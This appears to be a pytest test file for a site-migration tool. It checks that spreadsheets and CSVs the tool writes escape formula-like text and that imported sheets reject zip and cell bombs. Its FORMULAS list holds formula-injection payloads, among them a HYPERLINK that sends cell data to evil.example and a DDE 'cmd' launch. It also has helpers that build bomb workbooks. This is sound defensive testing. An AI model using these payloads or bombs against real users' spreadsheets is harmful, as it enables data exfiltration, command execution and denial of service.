"""Spreadsheets the tool writes never carry formulas from legacy text (bundle manifest, map sheet, report, redirects
CSV), and a sheet read back by `map --import` cannot exhaust memory (zip bomb, cell bomb): one line, exit 2."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from consolidate import pipeline
from consolidate.core.cells import csv_text, from_csv_text
from consolidate.core.store import ArticleRow, PushRecord
from consolidate.redirects import Redirect, _read_csv, render_csv
from consolidate.report import fleet_report
from consolidate.report_formats import render_xlsx
from mappers.sheet import MAX_XLSX_BYTES, SheetRow, TargetChoice, read_sheet, write_sheet

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1",
            "=cmd|' /C calc'!A0"]


def _formula_cells(path_or_book: object) -> list[str]:
    book = load_workbook(path_or_book) if isinstance(path_or_book, Path) else path_or_book
    return [f"{sheet.title}!{cell.coordinate}" for sheet in book.worksheets for row in sheet.iter_rows()
            for cell in row if cell.data_type == "f"]


def _texts(path: Path) -> set[str]:
    return {cell.value for sheet in load_workbook(path).worksheets for row in sheet.iter_rows() for cell in row
            if isinstance(cell.value, str)}


@pytest.mark.parametrize("value", [*FORMULAS, "'quoted", "''=x", "plain", "-", ""])
def test_csv_text_round_trips(value: str) -> None:
    """The `'` mark is added exactly where a program could see a formula, and reading removes exactly it."""
    written = csv_text(value)
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert from_csv_text(written) == value


def test_bundle_manifest_has_no_formula_cells(crawled: pipeline.Workspace) -> None:
    """Titles beginning = + - @ (and one with a control character) land in manifest.xlsx as text."""
    for update in (False, True):  # push, give pushed articles hostile titles, push them again
        target = pipeline.open_exporter(crawled, "bundle", {})
        try:
            summary = pipeline.push_site(crawled, "fgw", target, update=update)
        finally:
            target.close()
        assert summary.failed == 0
        with crawled.store.session() as session:
            pushed = session.scalars(select(PushRecord.source_url).where(
                PushRecord.kind == "article", PushRecord.status.in_(("pushed", "updated")))
                .order_by(PushRecord.id).limit(len(FORMULAS) + 1)).all()
            articles = session.scalars(select(ArticleRow).where(ArticleRow.url.in_(pushed))).all()
            for article, title in zip(articles, [*FORMULAS, "通知\x01\x0b公告"], strict=True):
                article.title = title
    manifest = crawled.dir / "bundle" / "manifest.xlsx"
    assert _formula_cells(manifest) == []
    texts = _texts(manifest)
    missing = [title for title in FORMULAS if title not in texts]
    assert not missing and "通知公告" in texts, (missing, sorted(texts)[:40])


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_map_sheet_keeps_formula_like_text(suffix: str, tmp_path: Path) -> None:
    """A legacy column path or name beginning = is written as text and read back unchanged."""
    rows = [SheetRow(path=value, name=value, articles=1, last="", flags=[], decision="unmapped", target=None,
                     merge_into=None, confidence=0.5, reason=value) for value in FORMULAS]
    path = write_sheet(tmp_path / f"map{suffix}", rows, [TargetChoice("zwdt", "=政务动态")], "zh")
    if suffix == ".xlsx":
        assert _formula_cells(path) == []
    else:
        cells = [c for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")) for c in row]
        assert "'" + FORMULAS[0] in cells and "'\t=1+1" in cells
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    _where, read = read_sheet(path)
    assert [r.values["path"] for r in read] == [value.strip() for value in FORMULAS]


def test_report_xlsx_has_no_formula_cells(crawled: pipeline.Workspace) -> None:
    """A site name and an error message beginning = stay text in the report workbook."""
    report = fleet_report(crawled, ["fgw"], details=True)
    report["sites"][0]["name"] = FORMULAS[0]
    report["sites"][0]["errors"] = [{"code": "x", "message": FORMULAS[-1], "url": "=1+1"}]
    book = load_workbook(_save(render_xlsx(report), crawled.dir / "report.xlsx"))
    assert _formula_cells(book) == []
    assert FORMULAS[0] in {c.value for s in book.worksheets for row in s.iter_rows() for c in row}


def _save(data: bytes, path: Path) -> Path:
    path.write_bytes(data)
    return path


def test_redirects_csv_marks_formula_text_and_reads_it_back(tmp_path: Path) -> None:
    """The redirects CSV puts `'` before a note beginning = and its import gets the note back unchanged."""
    rows = [Redirect("http://legacy.example/a.html", None, "410", FORMULAS[0]),
            Redirect("http://legacy.example/b.html", "https://portal.example/b", "301", "-moved")]
    text = render_csv(rows)
    assert "'=HYPERLINK" in text and "'-moved" in text
    path = tmp_path / "redirects.csv"
    path.write_text(text, encoding="utf-8")
    assert [row["note"] for _number, row in _read_csv(path)] == [FORMULAS[0], "-moved"]


# ---------------------------------------------------------------- bombs


def _bomb(source: Path, target: Path, rows: object) -> Path:
    """A copy of a real exported sheet whose first worksheet is replaced by the given rows (streamed, deflated)."""
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as bomb:
        for info in original.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                bomb.writestr(info, original.read(info.filename))
                continue
            with bomb.open("xl/worksheets/sheet1.xml", "w") as sheet:
                sheet.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats'
                            b'.org/spreadsheetml/2006/main"><dimension ref="A1:M2"/><sheetData>')
                for chunk in rows:
                    sheet.write(chunk)
                sheet.write(b"</sheetData></worksheet>")
    return target


def _size_bomb() -> object:
    """Rows of numeric cells until the sheet unpacks to more than the cap."""
    written, n = 0, 2
    while written <= MAX_XLSX_BYTES + (1 << 20):
        chunk = b"".join(b'<row r="%d">' % r + b"".join(b'<c r="%s%d"><v>1</v></c>' % (col, r) for col in
                                                        (b"A", b"B", b"C", b"D", b"E", b"F", b"G", b"H"))
                         + b"</row>" for r in range(n, n + 2000))
        n += 2000
        written += len(chunk)
        yield chunk


def _cell_bomb() -> object:
    """A few hundred rows, each with one cell in the last column: tiny on disk, 16,384 cells a row once read."""
    yield b"".join(b'<row r="%d"><c r="XFD%d"><v>1</v></c></row>' % (r, r) for r in range(2, 400))


# The child reports its own high-water mark (VmHWM starts afresh at exec): wait4's ru_maxrss would also count
# the memory the child shared with this (large) test process between fork and exec.
_PEAK_REPORTER = ("import atexit, os, runpy, sys\n"
                  "def report():\n"
                  "    peak = [l for l in open('/proc/self/status') if l.startswith('VmHWM')][0].split()[1]\n"
                  "    open(os.environ['PEAK_FILE'], 'w').write(peak)\n"
                  "atexit.register(report)\n"
                  "sys.argv = ['consolidate'] + sys.argv[1:]\n"
                  "runpy.run_module('consolidate.cli', run_name='__main__')\n")


def _import(ws: pipeline.Workspace, sheet: Path) -> tuple[int, str, int]:
    """Run `map --import` in a child process: exit code, its output, its own peak RSS in MB."""
    peak_file = sheet.with_suffix(".peak")
    process = subprocess.run([sys.executable, "-c", _PEAK_REPORTER, "map", "fgw", "--import", str(sheet),
                              "-c", str(ws.loaded.path), "--db", ws.store.url],
                             stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                             env={**os.environ, "PEAK_FILE": str(peak_file)})
    return process.returncode, process.stdout.decode(), int(peak_file.read_text()) // 1024


@pytest.mark.parametrize("kind", ["size", "cells"])
def test_sheet_bomb_is_one_line_exit_2(kind: str, crawled: pipeline.Workspace,
                                       capsys: pytest.CaptureFixture[str]) -> None:
    """A zip bomb (over the unpacked-size cap) and a cell bomb (over the cell cap) are refused before they cost
    memory: exit 2, one error line naming the limit, no traceback."""
    exported = crawled.dir / "map.xlsx"
    pipeline.export_sheet(crawled, "fgw", exported) if hasattr(pipeline, "export_sheet") else _export(crawled,
                                                                                                     exported)
    bomb = _bomb(exported, crawled.dir / f"bomb-{kind}.xlsx", _size_bomb() if kind == "size" else _cell_bomb())
    crawled.store.engine.dispose()
    code, output, rss = _import(crawled, bomb)
    with capsys.disabled():
        print(f"\n[sheet bomb] {kind}: {bomb.stat().st_size / 1e6:.1f} MB file, exit {code}, peak RSS {rss} MB: "
              f"{output.strip().splitlines()[0] if output.strip() else ''}")
    assert code == 2 and "Traceback" not in output
    assert ("unpacks to" if kind == "size" else "cells") in output.splitlines()[0]
    assert rss < 300


def _export(ws: pipeline.Workspace, path: Path) -> None:
    from consolidate.mapping import export_sheet

    export_sheet(ws, "fgw", path)
